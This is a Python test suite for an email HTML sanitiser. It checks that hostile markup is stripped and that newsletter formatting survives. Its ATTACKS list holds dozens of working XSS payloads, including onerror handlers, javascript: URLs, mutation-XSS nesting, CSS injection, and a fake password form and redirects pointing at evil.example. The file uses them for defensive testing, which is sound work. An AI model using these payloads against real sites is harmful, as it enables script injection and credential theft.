"""HTML of strangers: the known attacks do not survive, newsletters still look right."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from postroad.message.html_bounds import MAX_HTML
from postroad.message.sanitise import _ATTRIBUTES, _TAGS, PREFIX, SCOPE, sanitise_html
from tests.message.mails import newsletter

ALLOWED_ATTRIBUTES = {name for names in _ATTRIBUTES.values() for name in names} | {"target", "rel"}


def sanitised(html: str, *, allow_remote: bool = False) -> str:
    return sanitise_html(
        html, allow_remote=allow_remote, cid_url=lambda cid: f"/part/{cid}" if cid == "logo" else None
    ).html


def body(html: str, *, allow_remote: bool = False) -> str:
    """The result without the element around it."""
    text = sanitised(html, allow_remote=allow_remote)
    return text.removeprefix(f'<div class="{SCOPE}">').removesuffix("</div>")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_safe(html: str, *, allow_remote: bool = False) -> None:
    """Two independent parsers see nothing but allowed elements and harmless attributes."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    elements = list(collector.found)
    root = LexborHTMLParser(f"<!DOCTYPE html><html><head></head><body>{html}").body
    assert root is not None
    elements += [(node.tag or "", dict(node.attributes)) for node in root.css("*") if node.tag != "body"]
    for tag, attributes in elements:
        assert tag in _TAGS or tag == "style", tag
        for name, value in attributes.items():
            assert name in ALLOWED_ATTRIBUTES, (tag, name)
            if name == "href":
                assert re.match(r"https?://|mailto:|#x_", value or "", re.IGNORECASE)
            if name in ("src", "srcset", "background"):
                assert re.match(
                    r"/part/|https?://" if allow_remote else r"/part/", value or "", re.IGNORECASE
                )
            if name in ("class", "id", "name") and value != SCOPE:
                assert all(one.startswith(PREFIX) for one in (value or "").split())
            if name == "style":
                assert_safe_css(value or "", allow_remote=allow_remote)
    for style in re.findall(r"<style>(.*?)</style>", html, re.DOTALL):
        assert_safe_css(style, allow_remote=allow_remote)


def assert_safe_css(css: str, *, allow_remote: bool) -> None:
    assert "<" not in css
    assert "\\" not in css
    assert not re.search(r"expression|position|@import|binding|behavior|javascript|/\*", css, re.IGNORECASE)
    if not allow_remote:
        assert "url(" not in css.lower().replace('url("/part/', "")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)//",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01java\tscript\n:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/mail/delete'>x</a>",
    "<a href='cid:logo'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='javascript:alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td><style></td><img src=x onerror=alert(1)></style>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='x.swf'><embed src='x.swf'></object><applet code=x>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button><isindex type=image src=1 onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<body onload=alert(1) background='https://evil.example/x'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='background:\\75\\72\\6c(https://evil.example/x)'>x</div>",
    "<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example/x)}</style>",
    "<style>p{color:red}</style ><img src=x onerror=alert(1)>",
    "<style><!-- </style><img src=x onerror=alert(1)> --></style>",
    "<style>a{font-family:'</sty","le><script>alert(1)</script>'}</style>",
    "<p id=location name=location class='modal open'>x</p><a name=cookie id=cookie>x</a>",
    "<a href='#top'>x</a><a href='#x y'>x</a>",
    "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video>",
    "<audio src=x onerror=alert(1)><details open ontoggle=alert(1)>x</details>",
    "<img srcset='https://evil.example/x 1x'><picture><source srcset='https://evil.example/x'></picture>",
    "<table background='https://evil.example/x'><td background='javascript:x'>x</table>",
    "<![CDATA[<script>alert(1)</script>]]><?xml version=1?><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<a target=_self rel=opener href='https://e.com'>x</a>",
    "<td colspan=99999999 rowspan=99999999 width=99999999px>x</td>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "<img src='https://e.com/\" onerror=\"alert(1)'>",
    "<img src='cid:logo\" onerror=\"alert(1)'>",
    "a\0<scr\0ipt>alert(1)</scr\0ipt>\ud800",
]  # fmt: skip


@pytest.mark.parametrize("html", ATTACKS)
def test_attacks_do_not_survive(html: str) -> None:
    for text in (html, html * 3, f"<div>{html}</div>" + "<p>x</p>" * 600):
        for allow_remote in (False, True):
            result = sanitised(text, allow_remote=allow_remote)
            assert_safe(result, allow_remote=allow_remote)
            assert "alert(1)</" not in result.replace("alert(1)&lt;/", "")


TAGS = "svg math style /style table td script /script mtext mglyph template noscript /noscript title /title"
MORE_TAGS = "select form /form foreignobject textarea /p annotation-xml /body xmp b /b br"
WORDS = "<!-- --> <p <a href= javascript: <img src= onerror=alert(1) style=' color:red cid:logo"
MORE_WORDS = "url(https://e.com/x) ]]> <![CDATA[ <body id= &lt; &#60; \\3c <font"
PIECES = st.sampled_from(
    [
        *"abx<>/='\"&;- \n",
        *(f"<{tag}>" for tag in f"{TAGS} {MORE_TAGS}".split()),
        *(f"{word} " for word in f"{WORDS} {MORE_WORDS}".split()),
        *f"{WORDS} {MORE_WORDS}".split(),
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join))
def test_any_arrangement_of_dangerous_pieces_is_safe(html: str) -> None:
    assert_safe(sanitised(html))
    assert_safe(sanitised(html, allow_remote=True), allow_remote=True)


@given(st.lists(PIECES, max_size=25).map("".join))
def test_a_second_pass_finds_nothing_more_to_remove(html: str) -> None:
    """What browsers parse from the result is what was judged: nothing mutates into something new."""
    once = body(html)
    elements = [node.tag for node in LexborHTMLParser(once).css("*")]
    again = [node.tag for node in LexborHTMLParser(body(once)).css("*")]
    assert [tag for tag in elements if tag not in ("style",)] == [
        tag for tag in again if tag not in ("style",)
    ]


def test_a_newsletter_keeps_its_looks() -> None:
    result = sanitise_html(newsletter(2), allow_remote=False, cid_url=lambda cid: None)
    assert result.has_remote
    html = result.html
    assert html.startswith(
        "<style>.x_mail{margin:0;padding:0;background:#eeeeee}\n.x_mail .x_cell{color:#333}"
    )
    assert '<div class="x_mail" style="background-color:#eeeeee">' in html
    assert (
        '<table class="x_wide" width="600" border="0" cellpadding="0" cellspacing="0" align="center">' in html
    )
    assert 'bgcolor="#f7f7f7"' in html
    assert "font-family:'Microsoft YaHei'" in html
    assert '<font color="red" size="2">' in html
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in html
    assert "img.example.com" not in html
    assert 'alt="商品 1"' in html
    shown = sanitise_html(newsletter(2), allow_remote=True, cid_url=lambda cid: None)
    assert shown.has_remote
    assert 'src="https://img.example.com/p/1.jpg"' in shown.html


@pytest.mark.parametrize(
    ("html", "kept", "shown"),
    [
        ("<img src='https://e.com/a b.png'>", "<img>", '<img src="https://e.com/a%20b.png">'),
        ("<img src='//e.com/a.png'>", "<img>", '<img src="https://e.com/a.png">'),
        ("<img src='\\\\e.com/a.png'>", "<img>", '<img src="https://e.com/a.png">'),
        ("<table background='https://e.com/a'></table>", "<table></table>", '<table background="https://e.com/a"></table>'),
        ("<img srcset='https://e.com/a 1x, https://e.com/b 2x'>", "<img>",
         '<img srcset="https://e.com/a 1x, https://e.com/b 2x">'),
        ("<p style='background:url(https://e.com/a)'></p>", "<p></p>",
         '<p style="background:url(&quot;https://e.com/a&quot;)"></p>'),
    ],
)  # fmt: skip
def test_remote_pictures_stay_out_until_asked_for(html: str, kept: str, shown: str) -> None:
    hidden = sanitise_html(html, allow_remote=False, cid_url=lambda cid: None)
    assert hidden.has_remote
    assert body(html) == kept
    assert body(html, allow_remote=True) == shown


def test_remote_pictures_of_styles_are_noticed() -> None:
    result = sanitise_html(
        "<style>.a{background:url(https://e.com/a)}</style>x", allow_remote=False, cid_url=lambda cid: None
    )
    assert result.has_remote
    assert "<style>" not in result.html


def test_pictures_of_the_mail_itself_are_shown() -> None:
    assert body("<img src='cid:logo'><img src='CID:&lt;logo&gt;'><img src='cid:other'>") == (
        '<img src="/part/logo"><img src="/part/logo"><img>'
    )
    assert (
        body("<p style='background:url(cid:logo)'>")
        == '<p style="background:url(&quot;/part/logo&quot;)"></p>'
    )
    assert not sanitise_html("<img src='cid:logo'>", allow_remote=False, cid_url=lambda cid: None).has_remote


def test_links_open_elsewhere_and_anchors_stay() -> None:
    rel = 'target="_blank" rel="noopener noreferrer nofollow"'
    assert (
        body("<a href='https://e.com/?a=1&amp;b=2'>x</a>")
        == f'<a href="https://e.com/?a=1&amp;b=2" {rel}>x</a>'
    )
    assert body("<a href='mailto:a@b.cn'>x</a>") == f'<a href="mailto:a@b.cn" {rel}>x</a>'
    assert 'href="#x_top"' in body("<a href='#top'>x</a><p id=top>")
    assert 'id="x_top"' in body("<a href='#top'>x</a><p id=top>")


def test_size_is_bounded() -> None:
    assert len(sanitised("x" * (MAX_HTML * 3))) < MAX_HTML + 100
    sanitised("<div>" * 200_000)
    sanitised("<a " + " ".join(f"a{n}" for n in range(60_000)) + ">")
